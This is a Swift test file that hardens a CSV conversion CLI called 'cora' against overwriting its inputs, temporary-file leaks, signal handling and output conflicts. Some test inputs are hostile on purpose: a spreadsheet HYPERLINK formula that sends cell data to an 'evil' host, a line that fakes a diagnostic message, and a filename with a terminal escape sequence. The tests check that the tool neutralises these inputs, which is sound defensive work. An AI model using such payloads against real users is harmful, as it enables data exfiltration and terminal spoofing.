#if canImport(Glibc)
import Glibc
#endif
import Foundation
import Testing

/// Issue 13, hardening round two: what a tester who tried to break `cora` from outside found, each
/// item shown fixed here (numbers are the issue's).
@Suite("Hardening, round two")
struct HardeningTests {
    // MARK: 1. no output over an input or over another output

    @Test("convert -o the input itself is refused before anything is read or written", arguments: [
        ["convert", "inv.csv", "-o", "inv.csv"],
        ["convert", "inv.csv", "-o", "./sub/../inv.csv"],
        ["convert", "inv.csv", "--rejects", "inv.csv"],
        ["validate", "inv.csv", "--report", "inv.csv"],
        ["convert", "inv.csv", "-o", "link.csv"],
    ])
    func outputOverTheInput(_ arguments: [String]) throws {
        let scratch = try Scratch()
        let original = Canonical.document(Canonical.row("a", "A", "Bepalen visie"))
        try scratch.write("inv.csv", original)
        try scratch.folder("sub")
        #expect(symlink("inv.csv", scratch.url.appendingPathComponent("link.csv").path) == 0)
        let run = try CoraCLI.run(arguments, in: scratch.url)
        #expect(run.status == 64, "\(run)")
        #expect(run.stderrText.contains("is the input inv.csv; nothing was read or written [output-over-input]"), "\(run)")
        #expect(try scratch.read("inv.csv") == Array(original.utf8))
    }

    @Test("two outputs that are one file are refused: -o and --rejects, --report and -o, spelt differently")
    func twoOutputsInOneFile() throws {
        let scratch = try Scratch()
        try scratch.write("inv.csv", Canonical.document(Canonical.row("a", "A", "Bepalen visie")))
        let rejects = try scratch.cora("convert", "inv.csv", "-o", "x.csv", "--rejects", "X.csv")
        #expect(rejects.status == 64, "\(rejects)")
        #expect(rejects.stderrText.contains("the output of --rejects is the output of -o, x.csv"), "\(rejects)")
        let report = try scratch.cora("convert", "inv.csv", "-o", "out.json", "--to", "json", "--report", "./out.json")
        #expect(report.status == 64, "\(report)")
        #expect(report.stderrText.contains("[output-over-input]"), "\(report)")
        #expect(try scratch.listing() == ["inv.csv"])
    }

    @Test("an Archi set's own files are inputs too: -o or --report onto relations.csv is refused")
    func archiSetFilesAreInputs() throws {
        let scratch = try Scratch()
        let set = CoraCLI.packageRoot.appendingPathComponent("Samples/archi")
        for name in ["elements.csv", "relations.csv", "properties.csv"] {
            try scratch.write(name, try bytes(of: set.appendingPathComponent("woonstad-waterland-" + name)))
        }
        let before = try scratch.read("relations.csv")
        for option in ["-o", "--report"] {
            let run = try scratch.cora("convert", "elements.csv", "--mapping", "archi", option, "relations.csv")
            #expect(run.status == 64, "\(run)")
            #expect(run.stderrText.contains("the output of \(option) is the input relations.csv"), "\(run)")
        }
        #expect(try scratch.read("relations.csv") == before)
    }

    // MARK: 3. one rejects file per input, even when two inputs share a name

    @Test("--rejects with a/inv.csv and b/inv.csv writes two rejects files, neither over the other")
    func rejectsOfInputsWithOneName() throws {
        let scratch = try Scratch()
        try scratch.folder("a")
        try scratch.folder("b")
        try scratch.write("a/inv.csv", Canonical.document(Canonical.row("a1", "A1", "Bepalen visie"), Canonical.row("", "", "")))
        try scratch.write("b/inv.csv", Canonical.document(Canonical.row("b1", "B1", "Bepalen koers"), "b2,B2,,business-process,steering,,2,,,,,,,,,,,,"))
        let run = try scratch.cora("convert", "a/inv.csv", "b/inv.csv", "-o", "out.csv", "--rejects", "rejects.csv")
        #expect(run.status == 1, "\(run)")
        #expect(try scratch.listing() == ["a", "b", "out.csv", "rejects-inv-2.csv", "rejects-inv.csv"])
        #expect(String(decoding: try scratch.read("rejects-inv.csv"), as: UTF8.self) == Canonical.header + "\n,,,business-process,steering,,1,,,,,,,,,,,,\n")
        #expect(String(decoding: try scratch.read("rejects-inv-2.csv"), as: UTF8.self) == Canonical.header + "\nb2,B2,,business-process,steering,,2,,,,,,,,,,,,\n")
    }

    // MARK: 5. the children of a rejected duplicate go with it

    @Test("batch --merge: an id in two files keeps the first; the second's children are rejected with it, never hung under the first")
    func childrenOfADuplicateAcrossFiles() throws {
        let scratch = try Scratch()
        try scratch.folder("in")
        try scratch.write("in/a.csv", Canonical.document(Canonical.row("p1", "P1", "Bepalen visie"),
                                                         Canonical.row("w1", "W1", "Opstellen plan", level: "work-process", parent: "p1")))
        try scratch.write("in/b.csv", Canonical.document(Canonical.row("p1", "P1", "Verhuren eenheden", category: "primary"),
                                                         Canonical.row("w2", "W2", "Toewijzen woning", level: "work-process", category: "primary", parent: "P1"),
                                                         Canonical.row("s2", "S2", "Controleren dossier", level: "step", category: "primary", parent: "w2")))
        let run = try scratch.cora("batch", "in", "--out", "out", "--merge")
        #expect(run.status == 1, "\(run)")
        #expect(String(decoding: try scratch.read("out/merged.csv"), as: UTF8.self) == Canonical.document(
            Canonical.row("p1", "P1", "Bepalen visie"), Canonical.row("w1", "W1", "Opstellen plan", level: "work-process", parent: "p1")))
        #expect(String(decoding: try scratch.read("out/b.rejects.csv"), as: UTF8.self) == Canonical.document(
            Canonical.row("p1", "P1", "Verhuren eenheden", category: "primary"),
            Canonical.row("w2", "W2", "Toewijzen woning", level: "work-process", category: "primary", parent: "P1"),
            Canonical.row("s2", "S2", "Controleren dossier", level: "step", category: "primary", parent: "w2")))
        let report = try #require(try parseJSON(try scratch.read("out/b.report.json")) as? [String: Any])
        let findings = try #require(report["diagnostics"] as? [[String: Any]]).map { "\($0["line"]!) \($0["code"]!): \($0["message"]!)" }
        #expect(findings == [
            "2 duplicate-id: the id \"p1\" is also used on in/a.csv, line 2",
            "3 unknown-parent: the parent \"P1\" (line 2) has errors and is not in the model",
            "4 unknown-parent: the parent \"w2\" (line 3) has errors and is not in the model",
        ])
    }

    // MARK: 7. temporary files: exclusive, the mode of the file replaced, gone after a signal

    @Test("-o over a private (0600) file leaves a 0600 file, not a world-readable one")
    func outputKeepsItsMode() throws {
        let scratch = try Scratch()
        let out = try scratch.write("out.csv", "old\n")
        #expect(chmod(out.path, 0o600) == 0)
        let run = try scratch.cora("convert", CoraCLI.sample.path, "-o", "out.csv")
        #expect(run.status == 0, "\(run)")
        #expect(try scratch.read("out.csv") == (try bytes(of: CoraCLI.sample)))
        var status = stat()
        #expect(stat(out.path, &status) == 0 && status.st_mode & 0o777 == 0o600)
    }

    @Test("temporary files left by a killed run of cora are removed beside the output; others' files stay")
    func staleTemporaryFilesAreRemoved() throws {
        let scratch = try Scratch()
        let finished = Process()
        finished.executableURL = URL(fileURLWithPath: "/bin/true")
        try finished.run()
        finished.waitUntilExit()
        let dead = finished.processIdentifier
        try scratch.write(".cora-tmp-\(dead)-1-5eed", "half a file")
        try scratch.write(".cora-tmp-\(dead)-2", "half a file, from an earlier version")
        try scratch.write(".cora-tmp-1-7-abc", "a live process's file")
        try scratch.write(".cora-tmp-\(dead)-notes", "not a name cora makes")
        #expect(symlink("/etc/hostname", scratch.url.appendingPathComponent(".cora-tmp-\(dead)-3-abc").path) == 0)
        let run = try scratch.cora("convert", CoraCLI.sample.path, "-o", "out.csv")
        #expect(run.status == 0, "\(run)")
        #expect(try scratch.listing() == [".cora-tmp-1-7-abc", ".cora-tmp-\(dead)-3-abc", ".cora-tmp-\(dead)-notes", "out.csv"])
    }

    @Test("SIGTERM, or SIGHUP (a closed terminal), while the output is being written removes the temporary file and ends the run by the signal",
          arguments: [SIGTERM, SIGHUP])
    func signalRemovesTheTemporaryFile(signal: Int32) throws {
        let scratch = try Scratch()
        var text = Canonical.header + "\n"
        for index in 0..<150_000 { text += "p\(index),P\(index),Bepalen visie \(index),business-process,steering,,\(index),Jan,,,,,,,een omschrijving\n" }
        try scratch.write("big.csv", text)
        let process = Process()
        process.executableURL = CoraCLI.executable
        process.arguments = ["convert", "big.csv", "-o", "out.csv"]
        process.currentDirectoryURL = scratch.url
        process.standardError = FileHandle.nullDevice
        try process.run()
        var seen = false
        while process.isRunning && !seen {
            seen = try scratch.listing().contains { $0.hasPrefix(".cora-tmp-\(process.processIdentifier)-") }
            if !seen { usleep(500) }
        }
        #expect(seen, "the run ended before its temporary file was seen")
        kill(process.processIdentifier, signal)
        process.waitUntilExit()
        #expect(process.terminationReason == .uncaughtSignal && process.terminationStatus == signal)
        // No temporary file is left; the output is not there, or (the signal came just after the
        // rename) there whole.
        let listing = try scratch.listing()
        #expect(listing == ["big.csv"] || listing == ["big.csv", "out.csv"], "\(listing)")
        if listing.contains("out.csv") { #expect(try scratch.read("out.csv") == Array(text.utf8)) }
    }

    // MARK: 8. a local mapping shadows a built-in one only with a notice

    @Test("a ./Mappings/canonical.yaml in the working folder takes the built-in's place only with a note naming it")
    func localMappingShadowsBuiltin() throws {
        let scratch = try Scratch()
        try scratch.folder("Mappings")
        try scratch.write("Mappings/canonical.yaml", "name: canonical\nfields:\n  id: id\n  name: name\n")
        try scratch.write("inv.csv", Canonical.document(Canonical.row("a", "A", "Bepalen visie")))
        let note = "Mappings/canonical.yaml: note: this local mapping takes the place of the built-in mapping \"canonical\"; rename it (name: in the file) to keep both"
        let byDefault = try scratch.cora("convert", "inv.csv", "-o", "out.csv")
        #expect(byDefault.status == 0, "\(byDefault)")
        #expect(byDefault.stderrLines == [note, "cora: inv.csv: mapping canonical from Mappings/canonical.yaml (auto: 2 of 2 columns matched)",
                                          "cora: 1 row read, 1 process, 0 rejected; 0 errors, 0 warnings"])
        let auto = try scratch.cora("validate", "inv.csv", "--mapping", "auto")
        #expect(auto.stderrLines.first == note, "\(auto)")
        #expect(auto.stderrLines.dropFirst().first == "cora: inv.csv: mapping canonical from Mappings/canonical.yaml (auto: 2 of 2 columns matched)", "\(auto)")
        let batch = try scratch.cora("batch", ".", "--out", "out", "--mapping", "canonical")
        #expect(batch.stderrLines.first == note, "\(batch)")
    }

    // MARK: 9. paths are bytes on the way in; case and normalisation are conflicts on the way out

    @Test("batch: café.csv in NFC and in NFD are two inputs; their outputs, and HR.csv against hr.csv, are output conflicts")
    func namesThatDifferOnlyInFormOrCase() throws {
        let scratch = try Scratch()
        try scratch.folder("in")
        let names: [[UInt8]] = [Array("caf\u{E9}.csv".utf8), Array("cafe\u{301}.csv".utf8), Array("HR.csv".utf8), Array("hr.csv".utf8)]
        for (index, name) in names.enumerated() {
            // Written by bytes: Foundation might normalise a name it is given as a String.
            let path = Array(scratch.url.appendingPathComponent("in").path.utf8) + [UInt8(ascii: "/")] + name + [0]
            let descriptor = path.withUnsafeBufferPointer { open(UnsafeRawPointer($0.baseAddress!).assumingMemoryBound(to: CChar.self), O_WRONLY | O_CREAT | O_EXCL, 0o644) }
            #expect(descriptor >= 0)
            let text = Array(Canonical.document(Canonical.row("p\(index)", "P\(index)", "Bepalen visie")).utf8)
            #expect(write(descriptor, text, text.count) == text.count)
            close(descriptor)
        }
        let run = try scratch.cora("batch", "in", "--out", "out")
        #expect(run.status == 1, "\(run)")
        let lines = run.stdoutText.split(separator: "\n").map(String.init)
        #expect(lines.contains("4 files: 2 ok, 2 failed; 2 rows read, 2 processes, 0 rows rejected; 2 errors, 0 warnings"), "\(run)")
        #expect(lines.contains("hr.csv: failed: not converted: its output hr.csv and an output of in/HR.csv, HR.csv, differ only in case: one file on macOS, Windows and SMB shares"), "\(run)")
        #expect(lines.contains { $0.hasSuffix("differ only in how accented letters are encoded (Unicode NFC and NFD): one file on macOS, Windows and SMB shares") }, "\(run)")
        let written = try FileManager.default.contentsOfDirectory(atPath: scratch.url.appendingPathComponent("out").path).map { Array($0.utf8) }
        #expect(written.filter { $0.starts(with: Array("caf".utf8)) }.count == 2, "one café.csv and its report, not two of each")
    }

    // MARK: 10. an output that cannot be written fails its input, not the run

    @Test("batch: a folder where one input's output goes fails that input only; the others are converted and none is ok without its output")
    func unwritableOutputFailsOneFile() throws {
        let scratch = try Scratch()
        try scratch.folder("in")
        try scratch.folder("out")
        try scratch.folder("out/b.csv")
        for name in ["a", "b", "c", "d"] {
            try scratch.write("in/\(name).csv", Canonical.document(Canonical.row("p1", "P1", "Bepalen visie")))
        }
        let run = try scratch.cora("batch", "in", "--out", "out", "--jobs", "1")
        #expect(run.status == 1, "\(run)")
        let lines = run.stdoutText.split(separator: "\n").map(String.init)
        #expect(lines.contains("b.csv  failed  canonical  utf-8     ,         1          1       1         0"), "\(run)")
        #expect(lines.contains("b.csv: failed: out/b.csv: cannot write: a folder, not a file"), "\(run)")
        #expect(lines.contains("4 files: 3 ok, 1 failed; 4 rows read, 4 processes, 0 rows rejected; 1 error, 0 warnings"), "\(run)")
        for name in ["a", "c", "d"] { #expect(try scratch.read("out/\(name).csv") == Array(Canonical.document(Canonical.row("p1", "P1", "Bepalen visie")).utf8)) }
        let (_, files) = try BatchTests.summary(scratch)
        #expect(files["b.csv"]?["status"] as? String == "failed")
        #expect(files["b.csv"]?["outputs"] as? [String] == ["b.report.json"])
        // The next run tries it again (nothing recorded as done), and converts it once the folder is gone.
        try FileManager.default.removeItem(at: scratch.url.appendingPathComponent("out/b.csv"))
        let again = try scratch.cora("batch", "in", "--out", "out")
        #expect(again.status == 0, "\(again)")
        #expect(try scratch.read("out/b.csv") == Array(Canonical.document(Canonical.row("p1", "P1", "Bepalen visie")).utf8))
    }

    // MARK: 2. rows after a fatal read error are counted and kept

    @Test("a stray quote on line 4 of 1,000 rows: the 997 lines from there are counted, written to --rejects as they were, exit 2")
    func rowsAfterAFatalErrorAreAccountedFor() throws {
        let scratch = try Scratch()
        var rows = (1...999).map { Canonical.row("p\($0)", "P\($0)", "Bepalen visie \($0)", order: "\($0)") }
        rows[2] = Canonical.row("p3", "P3", "Bepalen \"visie 3", order: "3")
        try scratch.write("inv.csv", Canonical.document(rows))
        let convert = try scratch.cora("convert", "inv.csv", "-o", "out.csv", "--rejects", "rejects.csv")
        #expect(convert.status == 2, "\(convert)")
        #expect(convert.errorLines == ["inv.csv:4: error: a quote in the middle of a field, or text after a closing quote; reading stopped here (lines 4–1000, 997 lines, were not read) [stray-quote]"])
        #expect(String(decoding: try scratch.read("out.csv"), as: UTF8.self) == Canonical.document(Array(rows[0..<2])))
        #expect(String(decoding: try scratch.read("rejects.csv"), as: UTF8.self) == Canonical.document(Array(rows[2...])))

        let inspect = try scratch.cora("inspect", "inv.csv")
        #expect(inspect.stdoutText.contains("(header + 2 rows) on 1000 lines"), "\(inspect)")
        #expect(inspect.errorLines == ["inv.csv:4: error: a quote in the middle of a field, or text after a closing quote; reading stopped here (lines 4–1000, 997 lines, were not read) [stray-quote]"])

        let validate = try scratch.cora("validate", "inv.csv")
        #expect(validate.status == 2)
        #expect(validate.stderrLines.last == "cora: 2 rows read, 2 processes, 0 rejected, 997 lines not read; 1 error (stray-quote 1), 0 warnings", "\(validate)")

        try scratch.folder("in")
        try scratch.write("in/inv.csv", Canonical.document(rows))
        let batch = try scratch.cora("batch", "in", "--out", "out")
        #expect(batch.stdoutText.contains("1 file: 0 ok, 1 with errors; 2 rows read, 2 processes, 0 rows rejected, 997 lines not read; 1 error, 0 warnings"), "\(batch)")
        #expect(String(decoding: try scratch.read("out/inv.rejects.csv"), as: UTF8.self) == Canonical.document(Array(rows[2...])))
        let (json, files) = try BatchTests.summary(scratch)
        #expect((json["totals"] as? [String: Any])?["unreadLines"] as? Int == 997)
        #expect(files["inv.csv"]?["unreadLines"] as? Int == 997)
    }

    // MARK: 4. batch never writes over a file it did not write

    @Test("batch in --out in/sub where in/sub holds an inventory of the same name: not replaced (output-conflict), until it is moved away")
    func outputFolderInsideTheInputsWithInventories() throws {
        let scratch = try Scratch()
        try scratch.folder("in")
        try scratch.folder("in/sub")
        let ours = Canonical.document(Canonical.row("p1", "P1", "Bepalen visie"))
        let theirs = Canonical.document(Canonical.row("q1", "Q1", "Eigen inventaris", category: "primary"))
        try scratch.write("in/inv.csv", ours)
        try scratch.write("in/sub/inv.csv", theirs)
        let run = try scratch.cora("batch", "in", "--out", "in/sub")
        #expect(run.status == 1, "\(run)")
        #expect(run.stdoutText.contains("inv.csv: failed: in/sub/inv.csv is there and cora did not write it (it is not in the folder's manifest); not replaced"), "\(run)")
        #expect(String(decoding: try scratch.read("in/sub/inv.csv"), as: UTF8.self) == theirs)
        // The files it wrote itself (the report) it replaces on the next run; the inventory it still leaves alone.
        let again = try scratch.cora("batch", "in", "--out", "in/sub", "--jobs", "1")
        #expect(again.status == 1, "\(again)")
        #expect(String(decoding: try scratch.read("in/sub/inv.csv"), as: UTF8.self) == theirs)
        // Moved away: converted, and from then on its own output, replaced when the input changes.
        try FileManager.default.removeItem(at: scratch.url.appendingPathComponent("in/sub/inv.csv"))
        #expect(try scratch.cora("batch", "in", "--out", "in/sub").status == 0)
        try scratch.write("in/inv.csv", Canonical.document(Canonical.row("p1", "P1", "Bepalen visie twee")))
        #expect(try scratch.cora("batch", "in", "--out", "in/sub").status == 0)
        #expect(String(decoding: try scratch.read("in/sub/inv.csv"), as: UTF8.self) == Canonical.document(Canonical.row("p1", "P1", "Bepalen visie twee")))
        // --force replaces what is there, whoever wrote it.
        try scratch.write("in/sub/inv.md", "notes of someone else\n")
        #expect(try scratch.cora("batch", "in", "--out", "in/sub", "--to", "csv,md").status == 1)
        #expect(try scratch.read("in/sub/inv.md") == Array("notes of someone else\n".utf8))
        #expect(try scratch.cora("batch", "in", "--out", "in/sub", "--to", "csv,md", "--force").status == 0)
        #expect(try scratch.read("in/sub/inv.md") != Array("notes of someone else\n".utf8))
    }

    // MARK: 6. a name too long for its outputs is shortened, not a stop

    @Test("batch: an input with a legal 251-byte name gets outputs with a shortened name and a hash, said in the summary; the others are converted")
    func longNameIsShortened() throws {
        let scratch = try Scratch()
        try scratch.folder("in")
        let long = String(repeating: "x", count: 247)
        try scratch.write("in/\(long).csv", Canonical.document(Canonical.row("p1", "P1", "Bepalen visie")))
        try scratch.write("in/kort.csv", Canonical.document(Canonical.row("p1", "P1", "Bepalen visie")))
        let run = try scratch.cora("batch", "in", "--out", "out")
        #expect(run.status == 0, "\(run)")
        #expect(run.stdoutText.contains("2 files: 2 ok;"), "\(run)")
        let names = try FileManager.default.contentsOfDirectory(atPath: scratch.url.appendingPathComponent("out").path).sorted()
        let short = String(repeating: "x", count: 255 - ".report.json".count - 9)
        let hash = names.first { $0.hasPrefix(short + "~") }.map { String($0.dropFirst(short.count + 1).prefix(8)) } ?? ""
        #expect(hash.count == 8 && hash.allSatisfy(\.isHexDigit), "\(names)")
        #expect(names == [".cora-batch.json", "kort.csv", "kort.report.json", "summary.json", "summary.md", "\(short)~\(hash).csv", "\(short)~\(hash).report.json"])
        #expect(names.allSatisfy { $0.utf8.count <= 255 })
        let note = "its outputs are named \(short)~\(hash).*: the input's name with their extensions would be longer than 255 bytes"
        #expect(run.stderrLines.contains("in/\(long).csv: note: \(note)"), "\(run)")
        let (_, files) = try BatchTests.summary(scratch)
        #expect(files["\(long).csv"]?["note"] as? String == note)
        #expect(String(decoding: try scratch.read("out/summary.md"), as: UTF8.self).contains("## Notes\n\n- \(long).csv: its outputs are named \(short)\\~\(hash).\\*: the input's name"))
    }

    // MARK: 11. many workers under a memory limit, and a SIGTERM that ends the run

    @Test("batch --jobs 64 under a 600 MB address-space limit converts every file instead of waiting forever",
          .timeLimit(.minutes(2)), .enabled(if: !CoraCLI.isSanitized, "a sanitizer's shadow memory needs terabytes of address space"))
    func manyWorkersUnderAMemoryLimit() throws {
        let scratch = try Scratch()
        try scratch.folder("in")
        for index in 1...100 {
            try scratch.write("in/f\(index).csv", Canonical.document(Canonical.row("p1", "P1", "Bepalen visie")))
        }
        let run = try CoraCLI.run(["--as=600000000", CoraCLI.executable.path, "batch", "in", "--out", "out", "--jobs", "64"],
                                  in: scratch.url, program: URL(fileURLWithPath: "/usr/bin/prlimit"))
        #expect(run.status == 0 && !run.crashed, "\(run)")
        #expect(run.stdoutText.contains("100 files: 100 ok;"), "\(run)")
    }

    @Test("batch: one SIGTERM asks for a clean stop; a run that cannot stop within the grace period (10 s) is ended by it", .hangGuard)
    func sigtermEndsAStuckRun() throws {
        let scratch = try Scratch()
        try scratch.folder("in")
        try scratch.write("in/a.csv", Canonical.document(Canonical.row("p1", "P1", "Bepalen visie")))
        // A Graphviz that never answers: the file cannot be finished, so it cannot stop cleanly.
        let dot = try scratch.write("dot", "#!/bin/sh\nexec sleep 300\n")
        #expect(chmod(dot.path, 0o755) == 0)
        let process = Process()
        process.executableURL = CoraCLI.executable
        process.arguments = ["batch", "in", "--out", "out", "--to", "svg"]
        process.currentDirectoryURL = scratch.url
        process.environment = ProcessInfo.processInfo.environment.merging(["CORA_DOT": dot.path, "NO_COLOR": "1"]) { _, new in new }
        process.standardOutput = FileHandle.nullDevice
        process.standardError = FileHandle.nullDevice
        try process.run()
        usleep(1_500_000)
        let sent = Date()
        kill(process.processIdentifier, SIGTERM)
        process.waitUntilExit()
        let waited = Date().timeIntervalSince(sent)
        #expect(process.terminationReason == .uncaughtSignal && process.terminationStatus == SIGTERM)
        #expect(waited >= 9 && waited < 30, "ended \(waited) s after the signal")
        #expect(try FileManager.default.contentsOfDirectory(atPath: scratch.url.appendingPathComponent("out").path).filter { $0.hasPrefix(".cora-tmp-") } == [])
    }

    // MARK: From the reviews of this round

    @Test("batch: an input one of whose outputs is someone else's file gets no output at all; someone else's summary.md stops the run; a killed run's outputs stay cora's")
    func foreignFilesInTheOutputFolder() throws {
        let scratch = try Scratch()
        try scratch.folder("in")
        try scratch.folder("out")
        for name in ["a", "b"] { try scratch.write("in/\(name).csv", Canonical.document(Canonical.row("p1", "P1", "Bepalen visie"))) }
        try scratch.write("out/a.report.json", "mine\n")
        let run = try scratch.cora("batch", "in", "--out", "out")
        #expect(run.status == 1, "\(run)")
        #expect(run.stdoutText.contains("a.csv: failed: out/a.report.json is there and cora did not write it (it is not in the folder's manifest); not replaced: move it away, or pass --force"), "\(run)")
        #expect(try scratch.listing().isEmpty == false)
        let written = try FileManager.default.contentsOfDirectory(atPath: scratch.url.appendingPathComponent("out").path).sorted()
        #expect(written == [".cora-batch.json", "a.report.json", "b.csv", "b.report.json", "summary.json", "summary.md"], "no a.csv beside someone else's a.report.json")
        #expect(try scratch.read("out/a.report.json") == Array("mine\n".utf8))

        try scratch.folder("other")
        try scratch.write("other/summary.md", "notes\n")
        let summary = try scratch.cora("batch", "in", "--out", "other")
        #expect(summary.status == 2, "\(summary)")
        #expect(summary.stderrText.contains("other/summary.md is there and cora did not write it (the folder has no .cora-batch.json); nothing was converted [output-conflict]"), "\(summary)")
        #expect(try scratch.read("other/summary.md") == Array("notes\n".utf8))

        // What a run killed before its manifest leaves: its outputs and its list of pending ones.
        try scratch.folder("killed")
        try scratch.write("killed/a.csv", "half done\n")
        try scratch.write("killed/.cora-batch-pending.json", "[\"a.csv\",\"a.report.json\"]")
        let after = try scratch.cora("batch", "in", "--out", "killed")
        #expect(after.status == 0, "\(after)")
        #expect(try scratch.read("killed/a.csv") == Array(Canonical.document(Canonical.row("p1", "P1", "Bepalen visie")).utf8))
        #expect(!(try FileManager.default.contentsOfDirectory(atPath: scratch.url.appendingPathComponent("killed").path)).contains(".cora-batch-pending.json"))
    }

    @Test("batch: the output folder of an earlier batch inside an input folder is not read as inputs")
    func earlierOutputFolderIsNoInput() throws {
        let scratch = try Scratch()
        try scratch.folder("legacy")
        try scratch.write("legacy/a.csv", Canonical.document(Canonical.row("p1", "P1", "Bepalen visie")))
        #expect(try scratch.cora("batch", "legacy", "--out", "legacy/migrated").status == 0)
        let again = try scratch.cora("batch", "legacy", "--out", "migrated")
        #expect(again.status == 0, "\(again)")
        #expect(again.stdoutText.contains("1 file: 1 ok;"), "\(again)")
        #expect(again.stderrLines.contains("legacy/migrated: note: the output folder of an earlier cora batch (it holds .cora-batch.json); not searched"), "\(again)")
    }

    @Test("mapping show NAME > Mappings/NAME.yaml (the shell makes the empty file first) copies the built-in mapping, with a note")
    func mappingShowIntoItsOwnShadow() throws {
        let scratch = try Scratch()
        try scratch.folder("Mappings")
        try scratch.write("Mappings/excel-nl.yaml", "")
        let run = try scratch.cora("mapping", "show", "excel-nl")
        #expect(run.status == 0, "\(run)")
        #expect(run.stderrLines == ["Mappings/excel-nl.yaml: note: this local mapping cannot be used (the mapping is empty); the built-in mapping \"excel-nl\" follows"])
        #expect(run.stdoutText.hasPrefix("# excel-nl: a typical Dutch process inventory"), "\(run)")
        try scratch.write("Mappings/excel-nl.yaml", "name: excel-nl\nfields:\n  name: Naam\n")
        let shadowed = try scratch.cora("mapping", "show", "excel-nl")
        #expect(shadowed.stderrLines == ["Mappings/excel-nl.yaml: note: this local mapping takes the place of the built-in mapping \"excel-nl\"; rename it (name: in the file) to keep both"])
        #expect(shadowed.stdoutText == "name: excel-nl\nfields:\n  name: Naam\n")
    }

    @Test("what the second review found: a mapping that shadows canonical by its file name says so; standard input redirected from a file is an input; a line break in a value cannot fake a diagnostic line")
    func secondReviewFindings() throws {
        let scratch = try Scratch()
        try scratch.folder("Mappings")
        try scratch.write("Mappings/canonical.yaml", "name: sneaky\nfields:\n  id: id\n  name: owner\n")
        try scratch.write("inv.csv", Canonical.document(Canonical.row("a", "A", "Bepalen visie")))
        let shadow = try scratch.cora("convert", "inv.csv", "--mapping", "canonical", "-o", "out.csv")
        #expect(shadow.stderrLines.first == "Mappings/canonical.yaml: note: this local mapping (name: sneaky) takes the place of the built-in mapping \"canonical\" by its file name; rename the file to keep both", "\(shadow)")
        try FileManager.default.removeItem(at: scratch.url.appendingPathComponent("Mappings/canonical.yaml"))

        let original = try scratch.read("inv.csv")
        let redirected = try CoraCLI.run(["-c", "exec \"$0\" convert - -o inv.csv < inv.csv", CoraCLI.executable.path], in: scratch.url,
                                         program: URL(fileURLWithPath: "/bin/sh"))
        #expect(redirected.status == 64, "\(redirected)")
        #expect(redirected.stderrText.contains("the output of -o is the input - (standard input)"), "\(redirected)")
        #expect(try scratch.read("inv.csv") == original)

        try scratch.write("fake.csv", Canonical.layout1Header + "\n\"p1\nfake.csv:9:9: error: fake finding [unknown-level]\",P1,Bepalen visie,business-process,steering,,1,,,,,,,,\n")
        let fake = try scratch.cora("validate", "fake.csv")
        #expect(!fake.stderrLines.contains { $0.hasPrefix("fake.csv:9:9") }, "\(fake)")
        #expect(fake.stderrLines.contains { $0.contains("the id \"p1\\nfake.csv:9:9: error: fake finding [unknown-level]\"") }, "\(fake)")
    }

    @Test("a dot that writes no whole picture (it stopped reading a small diagram) is graphviz-failed; mapping init never writes over its input, not even with --force")
    func wholePicturesAndDraftsBesideTheirInput() throws {
        let scratch = try Scratch()
        try scratch.write("inv.csv", Canonical.document(Canonical.row("a", "A", "Bepalen visie")))
        let dot = try scratch.write("dot", "#!/bin/sh\nhead -c 10 >/dev/null\necho '<svg/>'\n")
        #expect(chmod(dot.path, 0o755) == 0)
        let svg = try CoraCLI.run(["convert", "inv.csv", "--mapping", "canonical", "--to", "svg", "-o", "x.svg"], in: scratch.url, environment: ["CORA_DOT": dot.path])
        #expect(svg.status == 2, "\(svg)")
        #expect(svg.stderrLines == ["error: dot wrote no whole SVG (7 bytes) [graphviz-failed]"], "\(svg)")
        #expect(!(try scratch.listing()).contains("x.svg"))
        let original = try scratch.read("inv.csv")
        let draft = try scratch.cora("mapping", "init", "inv.csv", "-o", "inv.csv", "--force")
        #expect(draft.status == 2, "\(draft)")
        #expect(draft.errorLines == ["inv.csv: error: the output is the input inv.csv; nothing was read or written [output-over-input]"])
        #expect(try scratch.read("inv.csv") == original)
    }

    @Test("rejects beside excel-csv: the lines a stray quote left unread get the formula protection too")
    func unreadLinesProtectedForSpreadsheets() throws {
        let scratch = try Scratch()
        let rest = "p2,P2,Verh\"uren b,business-process,steering,,2,,,,,,,,\np3,=HYPERLINK(\"http://evil/?\"&A1;\"klik\"),x, =1+1,steering,,3,,,,,,,,\n"
        try scratch.write("uq.csv", Canonical.document(Canonical.row("p1", "P1", "Bepalen visie")) + rest)
        let run = try scratch.cora("convert", "uq.csv", "--to", "excel-csv", "-o", "x.csv", "--rejects", "r.csv")
        #expect(run.status == 2, "\(run)")
        #expect(String(decoding: try scratch.read("r.csv"), as: UTF8.self) == Canonical.header + "\n"
            + "p2,P2,Verh\"uren b,business-process,steering,,2,,,,,,,,\np3,'=HYPERLINK(\"http://evil/?\"&A1;\"klik\"),x,' =1+1,steering,,3,,,,,,,,\n")
    }

    @Test("SIGTERM while dot draws ends dot too, instead of leaving it running on its own", .hangGuard)
    func signalEndsDot() throws {
        let scratch = try Scratch()
        try scratch.write("inv.csv", Canonical.document(Canonical.row("a", "A", "Bepalen visie")))
        let dot = try scratch.script("dot", "echo $$ > dot.pid\ncat >/dev/null\nexec sleep 120\n")
        let process = try scratch.start(["convert", "inv.csv", "--to", "svg", "-o", "x.svg"], environment: ["CORA_DOT": dot.path])
        let pid = scratch.pids(in: "dot.pid", atLeast: 1).first ?? 0
        #expect(pid > 0, "dot never started")
        usleep(200_000)
        kill(process.processIdentifier, SIGTERM)
        process.waitUntilExit()
        #expect(process.terminationReason == .uncaughtSignal && process.terminationStatus == SIGTERM)
        #expect(hasEnded(pid, within: 2), "dot (pid \(pid)) still runs after cora ended")
    }

    @Test("summary.md shows a file name's control characters escaped, as the terminal does")
    func summaryMarkdownEscapesControls() throws {
        let scratch = try Scratch()
        try scratch.folder("in")
        try scratch.write("in/a\u{1B}]0;PWN\u{07}\u{202E}.csv", Canonical.document(Canonical.row("p1", "P1", "Bepalen visie")))
        let run = try scratch.cora("batch", "in", "--out", "out")
        #expect(run.status == 0, "\(run)")
        let summary = try scratch.read("out/summary.md")
        #expect(!summary.contains(0x1B) && !summary.contains(0x07), "raw controls in summary.md")
        #expect(String(decoding: summary, as: UTF8.self).contains(#"a\\u001b\]0;PWN\\u0007\\u202e.csv"#), "\(String(decoding: summary, as: UTF8.self))")
    }
}
